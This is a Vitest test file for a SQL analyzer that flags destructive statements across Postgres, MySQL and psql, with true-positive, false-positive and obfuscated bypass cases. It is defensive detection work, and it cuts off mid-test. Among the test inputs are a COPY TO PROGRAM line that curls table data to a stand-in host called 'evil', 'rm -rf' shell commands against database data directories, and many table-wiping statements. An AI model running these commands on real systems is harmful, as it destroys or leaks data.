import { beforeAll, describe, expect, it } from 'vitest';
import { loadSqlParser } from '../../../src/parse/sql/load.js';
import { analyzeSql, type SqlAnalysis, type SqlStatement, type SqlStatementKind } from '../../../src/parse/sql/analyze.js';

beforeAll(async () => {
  await loadSqlParser();
});

interface Case {
  sql: string;
  dialect?: 'postgres' | 'mysql' | 'auto';
  /** The kinds of the statements found, in order. */
  kinds: SqlStatementKind[];
  /** Properties of those statements, in order (partial match). */
  props?: Partial<SqlStatement>[];
  /** How many errors (default 0). */
  errors?: number;
  /** Text every error message must contain. */
  errorText?: string;
  dialectOut?: 'postgres' | 'mysql';
}

function check(c: Case): SqlAnalysis {
  const result = analyzeSql(c.sql, c.dialect ?? 'auto');
  expect(result.statements.map((s) => s.kind)).toEqual(c.kinds);
  (c.props ?? []).forEach((props, i) => expect(result.statements[i]).toMatchObject(props));
  expect(result.errors).toHaveLength(c.errors ?? 0);
  if (c.errorText) for (const e of result.errors) expect(e.message).toContain(c.errorText);
  if (c.dialectOut) expect(result.dialect).toBe(c.dialectOut);
  // Offsets always point at the statement's own text.
  for (const s of result.statements) {
    if (s.pos >= 0 && s.end <= c.sql.length && c.sql.slice(s.pos, s.end) === s.text) continue;
    // Statements found inside quoted bodies may be placed at the body they run from.
    expect(c.sql.slice(s.pos, s.end)).toContain(s.text.slice(0, 5));
  }
  return result;
}

/** Destructive statements that must be recognised. */
const truePositives: Case[] = [
  // DROP … CASCADE of what tables depend on, DROP OWNED, DROP EXTENSION (issue 11).
  { sql: 'DROP OWNED BY app CASCADE', kinds: ['drop-cascade'], props: [{ names: ['app'], cascade: true }] },
  { sql: 'DROP OWNED BY app', kinds: ['drop-cascade'] },
  { sql: 'DROP EXTENSION postgis CASCADE', kinds: ['drop-cascade'] },
  { sql: 'DROP TYPE mood CASCADE', kinds: ['drop-cascade'], props: [{ names: ['mood'] }] },
  { sql: 'DROP DOMAIN us_postal_code CASCADE', kinds: ['drop-cascade'] },
  { sql: 'DROP FUNCTION touch() CASCADE', kinds: ['drop-cascade'] },
  { sql: 'DROP EXTENSION IF EXISTS pg_cron', kinds: ['drop-extension'], props: [{ ifExists: true }] },
  // MERGE whose DELETE is unguarded and whose source is a table.
  { sql: 'MERGE INTO users u USING old_users o ON u.id = o.id WHEN MATCHED THEN DELETE', kinds: ['delete'], props: [{ where: 'always-true' }] },
  // Tautologies.
  { sql: 'DELETE FROM users WHERE id IS NOT NULL', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE users.uuid IS NOT NULL', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'UPDATE users SET x = 1 WHERE active OR NOT active', kinds: ['update'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE NOT (a = 1) OR a = 1', kinds: ['delete'], props: [{ where: 'always-true' }] },
  // Time bounds a century or more away filter nothing (issue 11).
  { sql: "DELETE FROM events WHERE created_at < now() + interval '100 years'", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: "DELETE FROM events WHERE created_at > now() - interval '1000 years'", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: "DELETE FROM events WHERE created_at > '-infinity'", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: "UPDATE events SET x = 1 WHERE created_at < '9999-12-31'::date", kinds: ['update'], props: [{ where: 'always-true' }] },
  { sql: "DELETE FROM events WHERE CURRENT_TIMESTAMP + '2 centuries'::interval > created_at", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: "DELETE FROM events WHERE ts BETWEEN '-infinity' AND 'infinity'", kinds: ['delete'], props: [{ where: 'always-true' }] },
  // SQL run from text.
  { sql: "SELECT dblink_exec('dbname=app', 'DROP TABLE users')", kinds: ['select', 'drop-table'], props: [{}, { tables: ['users'] }] },
  { sql: "SELECT dblink_exec('DELETE FROM users')", kinds: ['select', 'delete'] },
  { sql: "SELECT * FROM dblink('dbname=app', 'DELETE FROM users') AS t(x int)", kinds: ['select', 'delete'] },
  { sql: "SELECT query_to_xml('TRUNCATE users', true, true, '')", kinds: ['select', 'truncate'] },
  { sql: "SELECT dblink_exec('dbname=app', format('DROP TABLE %I', t))", kinds: ['select', 'drop-table'] },
  { sql: 'SELECT dblink_exec(conn, sql_text)', kinds: ['select'], errors: 1, errorText: 'dynamic SQL' },
  { sql: 'DROP TABLE users', kinds: ['drop-table'], props: [{ tables: ['users'], names: ['users'] }] },
  {
    sql: 'DROP TABLE IF EXISTS public.users, orders CASCADE',
    kinds: ['drop-table'],
    props: [{ tables: ['public.users', 'orders'], ifExists: true, cascade: true }],
  },
  { sql: 'DROP DATABASE production', kinds: ['drop-database'], props: [{ names: ['production'] }] },
  { sql: 'DROP DATABASE IF EXISTS app WITH (FORCE)', kinds: ['drop-database'], props: [{ names: ['app'], ifExists: true }] },
  { sql: 'DROP SCHEMA public CASCADE', kinds: ['drop-schema'], props: [{ names: ['public'], cascade: true }] },
  { sql: 'DROP INDEX CONCURRENTLY idx_users_email', kinds: ['drop-other'], props: [{ names: ['idx_users_email'] }] },
  { sql: 'DROP VIEW active_users', kinds: ['drop-other'] },
  { sql: 'DROP ROLE IF EXISTS app_reader', kinds: ['drop-role'], props: [{ names: ['app_reader'], ifExists: true }] },
  // A terminate with no narrowing filter kills every session (an exclusion of itself narrows nothing).
  { sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', kinds: ['terminate-sessions'], props: [{ functionCalls: ['pg_terminate_backend'] }] },
  { sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()', kinds: ['terminate-sessions'] },
  { sql: 'SELECT lo_unlink(oid) FROM pg_largeobject_metadata', kinds: ['delete'], props: [{ tables: ['pg_largeobject'], where: 'none' }] },
  { sql: 'DROP SUBSCRIPTION orders_sub', kinds: ['replication'] },
  { sql: 'DELETE FROM t WHERE NOT EXISTS (SELECT 1 WHERE false)', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM sites WHERE tenant_id IN (SELECT id FROM tenants)', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'TRUNCATE users', kinds: ['truncate'], props: [{ tables: ['users'] }] },
  { sql: 'TRUNCATE TABLE users, orders RESTART IDENTITY CASCADE', kinds: ['truncate'], props: [{ tables: ['users', 'orders'], cascade: true }] },
  { sql: 'DELETE FROM users', kinds: ['delete'], props: [{ tables: ['users'], where: 'none' }] },
  { sql: 'delete from app.users;', kinds: ['delete'], props: [{ tables: ['app.users'], where: 'none' }] },
  { sql: 'UPDATE users SET admin = true', kinds: ['update'], props: [{ tables: ['users'], where: 'none' }] },
  { sql: 'ALTER TABLE users DROP COLUMN email', kinds: ['alter-table-drop-column'], props: [{ tables: ['users'], columns: ['email'] }] },
  { sql: 'ALTER TABLE users DROP COLUMN a CASCADE, DROP COLUMN b', kinds: ['alter-table-drop-column'], props: [{ columns: ['a', 'b'], cascade: true }] },
  { sql: 'ALTER TABLE users ALTER COLUMN id TYPE bigint', kinds: ['alter-table-alter-type'], props: [{ columns: ['id'] }] },
  { sql: 'ALTER TABLE users ADD COLUMN nickname text', kinds: ['alter-table-other'], props: [{ tables: ['users'] }] },
  { sql: 'ALTER TABLE users RENAME TO customers', kinds: ['alter-table-other'], props: [{ tables: ['users'] }] },
  { sql: 'SELECT pg_promote()', kinds: ['replication'], props: [{ functionCalls: ['pg_promote'] }] },
  { sql: 'SELECT pg_catalog.pg_promote(true, 60)', kinds: ['replication'] },
  { sql: "SELECT pg_drop_replication_slot('replica_1')", kinds: ['replication'] },
  { sql: 'INSERT INTO audit(ok) SELECT pg_promote()', kinds: ['replication'], props: [{ tables: ['audit'] }] },
  { sql: "ALTER SYSTEM SET primary_conninfo = 'host=db1 user=replicator'", kinds: ['replication'] },
  { sql: "ALTER SYSTEM SET work_mem = '64MB'", kinds: ['set'] },
  { sql: 'DELETE FROM users WHERE 1=1', kinds: ['delete'], props: [{ where: 'always-true', whereReason: 'WHERE 1 = 1 is always true' }] },
  { sql: 'DELETE FROM users WHERE true', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: "DELETE FROM users WHERE 'a'='a'", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'UPDATE users SET plan = 0 WHERE id = 5 OR true', kinds: ['update'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE id IN (SELECT id FROM users)', kinds: ['delete'], props: [{ where: 'always-true' }] },
  {
    sql: 'DELETE FROM users WHERE id = id',
    kinds: ['delete'],
    props: [{ where: 'always-true', whereReason: 'WHERE id = id is true for every row where id is not NULL' }],
  },
  { sql: 'DELETE FROM users WHERE email IS NULL OR email IS NOT NULL', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE NOT false', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: "DELETE FROM users WHERE 't'::boolean AND 2 > 1", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: "DELETE FROM users WHERE name LIKE '%'", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE EXISTS (SELECT 1)', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE 1 IN (1, 2)', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE 1 + 1 = 2', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'EXPLAIN ANALYZE DELETE FROM orders', kinds: ['delete'], props: [{ tables: ['orders'], where: 'none' }] },
  {
    sql: 'WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone',
    kinds: ['select', 'delete'],
    props: [{}, { tables: ['users'], where: 'none' }],
  },
  { sql: 'MERGE INTO users u USING stale s ON u.id = s.id WHEN MATCHED THEN DELETE', kinds: ['delete'], props: [{ tables: ['users'] }] },
  { sql: 'PREPARE wipe AS DELETE FROM users; EXECUTE wipe', kinds: ['delete', 'other'] },
];

/** Harmless statements that must not look destructive. */
const falsePositives: Case[] = [
  { sql: 'DROP TYPE mood', kinds: ['drop-other'] },
  { sql: 'DELETE FROM users WHERE deleted_at IS NOT NULL', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: 'DELETE FROM users WHERE user_id IS NOT NULL', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: 'DELETE FROM users WHERE id IS NULL', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: 'MERGE INTO users u USING (VALUES (1)) v(id) ON u.id = v.id WHEN MATCHED THEN DELETE', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: 'MERGE INTO users u USING old_users o ON u.id = o.id WHEN MATCHED AND o.gone THEN DELETE', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: "SELECT * FROM dblink('dbname=app', 'SELECT id FROM users') AS t(id int)", kinds: ['select', 'select'] },
  { sql: "SELECT query_to_xml('SELECT * FROM users', true, true, '')", kinds: ['select', 'select'] },
  { sql: "SELECT 'DROP TABLE users'", kinds: ['select'] },
  { sql: "INSERT INTO log VALUES ('TRUNCATE')", kinds: ['insert'], props: [{ tables: ['log'] }] },
  { sql: '-- DROP TABLE x', kinds: [] },
  { sql: '/* DROP DATABASE prod; */', kinds: [] },
  { sql: 'SELECT $$ DROP TABLE users; $$', kinds: ['select'] },
  { sql: 'SELECT $tag$ TRUNCATE users $tag$ AS t', kinds: ['select'] },
  { sql: "SELECT E'it\\'s; DROP TABLE users'", kinds: ['select'] },
  { sql: 'SELECT "DROP TABLE users" FROM audit', kinds: ['select'], props: [{ tables: ['audit'] }] },
  { sql: 'SELECT * FROM users WHERE id = 1', kinds: ['select'], props: [{ tables: ['users'], where: 'not-applicable' }] },
  { sql: 'DELETE FROM sessions WHERE expires_at < now()', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: "DELETE FROM events WHERE created_at < now() - interval '90 days'", kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: "DELETE FROM sessions WHERE expires_at < now() + interval '1 day'", kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: "DELETE FROM events WHERE created_at < '2024-01-01'", kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: "DELETE FROM events WHERE created_at > now() - interval '100 years'", kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'UPDATE users SET name = $1 WHERE id = $2', kinds: ['update'], props: [{ where: 'present' }] },
  { sql: 'DELETE FROM users WHERE id = 42', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: 'DELETE FROM users WHERE 1 = 0', kinds: ['delete'], props: [{ where: 'present' }] },
  { sql: 'DELETE FROM users WHERE id NOT IN (SELECT id FROM users)', kinds: ['delete'], props: [{ where: 'computed' }] },
  { sql: 'DELETE FROM users WHERE id IN (SELECT user_id FROM banned)', kinds: ['delete'], props: [{ where: 'computed' }] },
  { sql: 'DELETE FROM users WHERE id IN (SELECT id FROM users WHERE spam)', kinds: ['delete'], props: [{ where: 'computed' }] },
  { sql: 'UPDATE users u SET x = 1 FROM other o WHERE u.id = o.id', kinds: ['update'], props: [{ where: 'computed' }] },
  { sql: 'EXPLAIN DELETE FROM users', kinds: ['other'] },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM users', kinds: ['other'] },
  { sql: 'CREATE TABLE t (id int primary key)', kinds: ['create'] },
  { sql: 'CREATE INDEX CONCURRENTLY idx ON users (email)', kinds: ['create'] },
  { sql: 'GRANT SELECT ON users TO reader', kinds: ['grant'] },
  { sql: 'GRANT USAGE ON SCHEMA columnar TO PUBLIC', kinds: ['grant'] },
  { sql: 'GRANT SELECT ON ALL TABLES IN SCHEMA columnar TO PUBLIC', kinds: ['grant'] },
  { sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO app', kinds: ['grant'] },
  { sql: 'ALTER ROLE app NOSUPERUSER', kinds: ['other'] },
  { sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', kinds: ['grant-broad'] },
  { sql: 'GRANT INSERT ON orders TO PUBLIC', kinds: ['grant-broad'] },
  { sql: 'ALTER ROLE app SUPERUSER', kinds: ['grant-broad'] },
  { sql: 'CREATE ROLE admin WITH LOGIN SUPERUSER', kinds: ['grant-broad'] },
  { sql: 'CREATE ROLE service_role NOLOGIN NOINHERIT BYPASSRLS', kinds: ['other'] },
  { sql: 'GRANT pg_read_all_data TO supabase_read_only_user', kinds: ['grant'] },
  { sql: 'GRANT pg_write_all_data TO reporting', kinds: ['grant-broad'] },
  { sql: 'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO PUBLIC', kinds: ['grant-broad'] },
  { sql: 'REVOKE CREATE ON SCHEMA public FROM PUBLIC', kinds: ['revoke'] },
  { sql: 'REVOKE reporting FROM alice', kinds: ['revoke'] },
  { sql: 'SET statement_timeout = 0', kinds: ['set'] },
  {
    sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction'",
    kinds: ['select'],
    props: [{ functionCalls: ['pg_terminate_backend'] }],
  },
  { sql: 'SELECT pg_terminate_backend(12345)', kinds: ['select'] },
  { sql: 'DELETE FROM sites WHERE owner_id IN (SELECT id FROM banned_users)', kinds: ['delete'], props: [{ where: 'computed' }] },
  { sql: 'DELETE FROM t WHERE EXISTS (SELECT count(*) WHERE false)', kinds: ['delete'], props: [{ where: 'present' }] },
  {
    sql: 'CREATE FUNCTION cleanup() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$',
    kinds: ['create'],
  },
  { sql: 'VACUUM ANALYZE users', kinds: ['other'] },
  { sql: '', kinds: [] },
  { sql: '  \n\t ', kinds: [] },
];

/** Obfuscation: comments, case, quoting, splitting. */
const bypassAttempts: Case[] = [
  { sql: '/* x */ DROP/**/TABLE users', kinds: ['drop-table'], props: [{ tables: ['users'], text: 'DROP/**/TABLE users' }] },
  { sql: 'dRoP tAbLe "Users"', kinds: ['drop-table'], props: [{ tables: ['Users'] }] },
  { sql: 'DrOp TaBlE Users', kinds: ['drop-table'], props: [{ tables: ['users'] }] },
  { sql: 'DROP\n-- comment\nTABLE\tusers', kinds: ['drop-table'] },
  { sql: 'SELECT 1;DROP TABLE users', kinds: ['select', 'drop-table'] },
  { sql: "SELECT ';'; DROP TABLE users; SELECT ';DROP'", kinds: ['select', 'drop-table', 'select'] },
  { sql: 'BEGIN; DELETE FROM users; COMMIT;', kinds: ['transaction', 'delete', 'transaction'], props: [{}, { where: 'none' }] },
  { sql: 'BEGIN;\nTRUNCATE users;\nROLLBACK;', kinds: ['transaction', 'truncate', 'transaction'] },
  { sql: 'DELETE FROM users WHERE (((1=1)))', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE FROM users WHERE 1::int = 1', kinds: ['delete'], props: [{ where: 'always-true' }] },
  { sql: 'DELETE/**/FROM/**/users', kinds: ['delete'], props: [{ where: 'none' }] },
  { sql: 'SELECT 1 WHERE false; DELETE FROM "USERS" WHERE -1 < 0', kinds: ['select', 'delete'], props: [{}, { tables: ['USERS'], where: 'always-true' }] },
  { sql: 'SELECT \'é\'; DROP TABLE "Üsers"', kinds: ['select', 'drop-table'], props: [{}, { tables: ['Üsers'], text: 'DROP TABLE "Üsers"' }] },
  { sql: 'DO $$ BEGIN DROP TABLE users; END $$', kinds: ['other', 'drop-table'], props: [{}, { tables: ['users'], text: 'DROP TABLE users' }] },
  { sql: "DO 'BEGIN TRUNCATE users; END'", kinds: ['other', 'truncate'] },
  { sql: 'DO $$ BEGIN PERFORM pg_promote(); END $$', kinds: ['other', 'replication'] },
  { sql: "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", kinds: ['other', 'drop-table'], props: [{}, { tables: ['users'] }] },
  {
    sql: "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'TRUNCATE ' || r.tablename; END LOOP; END $$",
    // The constant text says TRUNCATE; the table is only known when it runs.
    kinds: ['other', 'select', 'truncate'],
    errors: 1,
    errorText: 'dynamic SQL',
  },
  {
    sql: "DO $$ BEGIN IF (SELECT count(*) FROM t) > 0 THEN DELETE FROM t WHERE true; ELSE RAISE NOTICE '%', 1; END IF; END $$",
    kinds: ['other', 'select', 'delete'],
    props: [{}, {}, { where: 'always-true' }],
  },
  { sql: 'DO LANGUAGE plpython3u $$ plpy.execute("DROP TABLE users") $$', kinds: ['other'], errors: 1, errorText: 'LANGUAGE plpython3u' },
  {
    sql: 'CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ TRUNCATE users $$; SELECT wipe();',
    kinds: ['create', 'truncate', 'select'],
    props: [{}, { tables: ['users'], text: 'TRUNCATE users' }, { functionCalls: ['wipe'] }],
  },
  { sql: 'CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM users; END; CALL p()', kinds: ['create', 'delete', 'other'] },
  { sql: "COPY users TO PROGRAM 'curl -d @- evil'", kinds: ['select'], errors: 1, errorText: 'PROGRAM' },
  {
    sql: 'DO $$ DECLARE n int; BEGIN INSERT INTO log(id) VALUES (1) RETURNING id INTO n; <<l>> LOOP EXIT l WHEN n > 0; END LOOP; DELETE FROM a WHERE 1=1; END $$',
    kinds: ['other', 'insert', 'delete'],
    props: [{}, { tables: ['log'] }, { tables: ['a'], where: 'always-true' }],
  },
  { sql: 'SELECT 1; /*!40101 DROP TABLE users */; SELECT 2', kinds: ['select', 'drop-table', 'select'], dialectOut: 'mysql' },
];

/** MySQL-only syntax. */
const mysql: Case[] = [
  // Grants of the whole server, and revokes (issue 11).
  { sql: "GRANT ALL ON *.* TO 'x'@'%'", dialect: 'mysql', kinds: ['grant-broad'] },
  { sql: "GRANT SUPER, PROCESS ON *.* TO 'orchestrator'@'%'", dialect: 'mysql', kinds: ['grant-broad'] },
  { sql: "GRANT SELECT ON app.* TO 'ro'@'%'", dialect: 'mysql', kinds: ['grant'] },
  { sql: "GRANT ALL ON app.* TO 'app'@'%'", dialect: 'mysql', kinds: ['grant'] },
  { sql: "REVOKE ALL ON *.* FROM 'app'@'%'", dialect: 'mysql', kinds: ['revoke'] },
  // DELIMITER bodies: the statements of a stored program are judged as if they ran.
  {
    sql: 'DELIMITER //\nCREATE PROCEDURE purge()\nBEGIN\n  DECLARE n INT;\n  l1: LOOP\n    LEAVE l1;\n  END LOOP;\n  IF n > 0 THEN\n    DELETE FROM users;\n  END IF;\nEND //\nDELIMITER ;',
    dialect: 'mysql',
    kinds: ['create', 'delete'],
    props: [{}, { tables: ['users'], where: 'none' }],
  },
  {
    sql: 'DELIMITER $$\nCREATE TRIGGER t_bi BEFORE INSERT ON orders FOR EACH ROW BEGIN SET NEW.created_at = NOW(); END $$\nDELIMITER ;',
    dialect: 'mysql',
    kinds: ['create'],
  },
  { sql: 'DELETE FROM `users`', kinds: ['delete'], props: [{ tables: ['users'], where: 'none', dialect: 'mysql' }], dialectOut: 'mysql' },
  { sql: 'STOP SLAVE; RESET SLAVE ALL;', kinds: ['replication', 'replication'], dialectOut: 'mysql' },
  { sql: 'STOP REPLICA; RESET REPLICA ALL', kinds: ['replication', 'replication'] },
  { sql: "CHANGE MASTER TO MASTER_HOST='db2', MASTER_AUTO_POSITION=1", kinds: ['replication'] },
  { sql: "CHANGE REPLICATION SOURCE TO SOURCE_HOST='db2'", kinds: ['replication'] },
  { sql: 'RESET MASTER', kinds: ['replication'] },
  { sql: 'RESET MASTER', dialect: 'mysql', kinds: ['replication'] },
  { sql: "PURGE BINARY LOGS TO 'mysql-bin.010'", kinds: ['replication'] },
  { sql: 'DELETE FROM users WHERE created_at < NOW() LIMIT 1000', kinds: ['delete'], props: [{ where: 'always-true' }], dialectOut: 'mysql' },
  { sql: 'DELETE FROM users ORDER BY id LIMIT 10', dialect: 'mysql', kinds: ['delete'], props: [{ where: 'none' }] },
  { sql: 'DELETE FROM `db`.`users` WHERE 1', dialect: 'mysql', kinds: ['delete'], props: [{ tables: ['db.users'], where: 'always-true' }] },
  { sql: 'UPDATE users SET a = "x" WHERE "a" = "a"', dialect: 'mysql', kinds: ['update'], props: [{ where: 'always-true' }] },
  { sql: 'UPDATE users SET a = 1 WHERE id = 7 || 1', dialect: 'mysql', kinds: ['update'], props: [{ where: 'always-true' }] },
  { sql: 'UPDATE `Users` SET a = 1 WHERE id = 7', dialect: 'mysql', kinds: ['update'], props: [{ tables: ['Users'], where: 'present' }] },
  { sql: 'DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a', dialect: 'mysql', kinds: ['delete'], props: [{ tables: ['t1'], where: 'none' }] },
  { sql: 'DROP DATABASE `prod`', kinds: ['drop-database'], props: [{ names: ['prod'] }] },
  { sql: 'DROP SCHEMA IF EXISTS shop', dialect: 'mysql', kinds: ['drop-database'], props: [{ names: ['shop'], ifExists: true }] },
  { sql: 'TRUNCATE TABLE `orders`', kinds: ['truncate'], props: [{ tables: ['orders'] }] },
  { sql: 'ALTER TABLE `t` DROP `a`, MODIFY b BIGINT, ADD INDEX (c)', kinds: ['alter-table-drop-column'], props: [{ columns: ['a'] }] },
  { sql: 'ALTER TABLE t CHANGE COLUMN old new_name VARCHAR(10)', dialect: 'mysql', kinds: ['alter-table-alter-type'], props: [{ columns: ['old'] }] },
  { sql: 'ALTER TABLE t DROP INDEX idx_a', dialect: 'mysql', kinds: ['alter-table-other'] },
  { sql: "SELECT 'DROP TABLE users'; INSERT INTO log VALUES ('TRUNCATE')", dialect: 'mysql', kinds: ['select', 'insert'] },
  { sql: "SELECT * FROM t WHERE a = 'it\\'s; DROP TABLE users'", dialect: 'mysql', kinds: ['select'] },
  { sql: '-- DROP TABLE x\n# DROP TABLE y\n/* DROP TABLE z */', dialect: 'mysql', kinds: [] },
  { sql: 'SELECT 1 # ; DROP TABLE users', dialect: 'mysql', kinds: ['select'] },
  { sql: '/*!40101 SET NAMES utf8 */;\nDROP TABLE IF EXISTS `users`;', dialect: 'mysql', kinds: ['set', 'drop-table'], props: [{}, { ifExists: true }] },
  { sql: '/*!50000 DROP TABLE users */', dialect: 'mysql', kinds: ['drop-table'] },
  { sql: 'SHOW DATABASES; USE shop', dialect: 'mysql', kinds: ['other', 'other'], props: [{}, { names: ['shop'] }] },
  { sql: 'USE prod\nDROP DATABASE prod', dialect: 'mysql', kinds: ['other', 'drop-database'] },
  // The procedure's body is judged where it is created (issue 11): its DELETE is found.
  { sql: 'DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM x; END//\nDELIMITER ;\nCALL p();', dialect: 'mysql', kinds: ['create', 'delete', 'other'] },
  { sql: 'SELECT 1\\G DROP TABLE x', dialect: 'mysql', kinds: ['select', 'drop-table'] },
  {
    sql: 'DELIMITER ;;\nCREATE TRIGGER t BEFORE DELETE ON a FOR EACH ROW BEGIN DELETE FROM b; END ;;\nDELIMITER ;\nTRUNCATE a;',
    dialect: 'mysql',
    // The trigger's body runs on every DELETE of a: judged too.
    kinds: ['create', 'delete', 'truncate'],
  },
  { sql: "PREPARE s FROM 'DELETE FROM users'; EXECUTE s", dialect: 'mysql', kinds: ['delete', 'other'] },
  { sql: 'PREPARE s FROM @sql', dialect: 'mysql', kinds: ['other'], errors: 1, errorText: 'dynamic SQL' },
  { sql: "DROP USER 'bob'@'%'", dialect: 'mysql', kinds: ['drop-role'], props: [{ names: ['bob@%'] }] },
  { sql: 'ALTER TABLE t ENGINE=BLACKHOLE', dialect: 'mysql', kinds: ['truncate'] },
  { sql: 'SET GLOBAL read_only = OFF', dialect: 'mysql', kinds: ['replication'] },
  { sql: 'SET GLOBAL read_only = ON', dialect: 'mysql', kinds: ['set'] },
  { sql: 'START SLAVE', dialect: 'mysql', kinds: ['other'] },
  { sql: 'source /tmp/restore.sql', dialect: 'mysql', kinds: [], errors: 1, errorText: 'another file' },
  { sql: 'system rm -rf /var/lib/mysql', dialect: 'mysql', kinds: [], errors: 1, errorText: 'shell command' },
];

/** Text that cannot be read must land in errors, never pass as harmless. */
const unparseable: Case[] = [
  { sql: 'DELET FROM users', kinds: [], errors: 1 },
  { sql: 'frobnicate the database', dialect: 'mysql', kinds: [], errors: 1, errorText: 'could not classify' },
  { sql: 'DROP TABLE users; garbage here; SELECT 1', dialect: 'postgres', kinds: ['drop-table', 'select'], errors: 1 },
  { sql: 'DELETE FROM `users`', dialect: 'postgres', kinds: [], errors: 1 },
  { sql: "SELECT 'unterminated", dialect: 'postgres', kinds: [], errors: 1 },
  { sql: 'SELECT 1;\0DROP TABLE users', kinds: [], errors: 1, errorText: 'NUL' },
  // format() of a constant template: its statement is judged (%I is an identifier only known at run time).
  { sql: "DO $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$", kinds: ['other', 'drop-table'], props: [{}, { tables: ['unknown_identifier'] }] },
  // %s inserts raw text: the template's statement is judged and the rest stays unknown.
  { sql: "DO $$ BEGIN EXECUTE format('SELECT * FROM %s', t); END $$", kinds: ['other', 'select'], errors: 1, errorText: 'dynamic SQL' },
  { sql: 'DO $$ BEGIN EXECUTE v_sql; END $$', kinds: ['other'], errors: 1, errorText: 'dynamic SQL' },
  { sql: 'DO $$ BEGIN frobnicate everything; END $$', kinds: ['other'], errors: 1 },
  { sql: 'DELETE FROM users WHERE', dialect: 'mysql', kinds: ['delete'], errors: 1, errorText: 'WHERE without a condition' },
  { sql: "BINLOG 'AAAA'", dialect: 'mysql', kinds: ['other'], errors: 1 },
];

/** psql scripts: meta-commands are not SQL. */
const psqlScripts: Case[] = [
  {
    sql: '\\set ON_ERROR_STOP on\nDELETE FROM users;\n\\c other\nDROP TABLE x;',
    dialect: 'postgres',
    kinds: ['delete', 'other', 'drop-table'],
    props: [{ text: 'DELETE FROM users' }, { text: '\\c other' }, { text: 'DROP TABLE x' }],
  },
  { sql: "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", dialect: 'postgres', kinds: ['select'], errors: 1, errorText: '\\gexec' },
  { sql: '\\! rm -rf /var/lib/postgresql/data', dialect: 'postgres', kinds: [], errors: 1, errorText: 'shell command' },
  { sql: '\\i other.sql', dialect: 'postgres', kinds: [], errors: 1, errorText: 'another file' },
  { sql: 'SELECT 1 \\g\nTRUNCATE t', dialect: 'postgres', kinds: ['select', 'truncate'] },
  { sql: '\\timing on\n\\x\nSELECT count(*) FROM users;', kinds: ['select'] },
  // `+` asks for more detail: still a listing.
  { sql: '\\l+ app', dialect: 'postgres', kinds: [] },
  { sql: '\\sf+ touch_updated_at\nSELECT 1;', dialect: 'postgres', kinds: ['select'] },
];

const groups: [string, Case[]][] = [
  ['true positives', truePositives],
  ['false positives', falsePositives],
  ['bypass attempts', bypassAttempts],
  ['MySQL syntax', mysql],
  ['unparseable text', unparseable],
  ['psql scripts', psqlScripts],
];

describe('analyzeSql corpus', () => {
  it('has at least 80 cases and no duplicates', () => {
    const all = groups.flatMap(([, cases]) => cases.map((c) => `${c.dialect ?? 'auto'}:${c.sql}`));
    expect(all.length).toBeGreaterThanOrEqual(80);
    expect(new Set(all).size).toBe(all.length);
  });
  for (const [name, cases] of groups) {
    describe(name, () => {
      for (const c of cases) {
        it(`${c.dialect ?? 'auto'}: ${JSON.stringify(c.sql)} → ${c.kinds.join(', ') || 'nothing'}${c.errors ? ` + ${c.errors} error(s)` : ''}`, () => {
          check(c);
        });
      }
    });
  }
});

describe('analyzeSql details', () => {
  it('slices each statement of a multi-statement input at its own offsets', () => {
    const sql = 'SELECT 1;\n  -- wipe\n  DELETE FROM users WHERE true ;\nCOMMIT';
    const { statements } = analyzeSql(sql);
    expect(statements.map((s) => sql.slice(s.pos, s.end))).toEqual(['SELECT 1', 'DELETE FROM users WHERE true', 'COMMIT']);
  });

  it('places statements found in a dollar-quoted DO body at their place in the input', () => {
